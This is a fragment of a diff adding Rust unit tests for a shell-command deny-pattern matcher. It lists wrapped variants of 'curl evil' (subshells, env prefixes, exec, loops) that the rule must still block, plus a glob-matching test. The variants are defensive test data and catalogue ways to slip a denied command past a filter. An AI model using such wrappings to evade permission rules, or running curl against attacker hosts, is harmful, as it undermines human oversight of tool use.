+            "if true; then curl evil; fi",
+            "while true; do curl evil; done",
+            "{ curl evil; }",
+            "(curl evil)",
+            "! curl evil",
+            "FOO=1 curl evil",
+            "env curl evil",
+            "env -i FOO=1 curl evil",
+            "command curl evil",
+            "exec curl evil",
+        ] {
+            assert!(deny_pattern_matches("curl", command), "{command}");
+            assert!(deny_pattern_matches("curl*", command), "{command}");
+        }
+        assert!(!deny_pattern_matches("curl", "env FOO=curl git status"));
+        assert!(!deny_pattern_matches("curl", "echo curl"));
+    }
+
+    #[test]
+    fn glob_match_still_crosses_everything() {
+        assert!(glob_match("dependabot/*", "dependabot/npm/a;b"));
+        assert!(glob_match("feat-?", "feat-1"));
+        assert!(!glob_match("feat-?", "feat-12"));
+    }
+}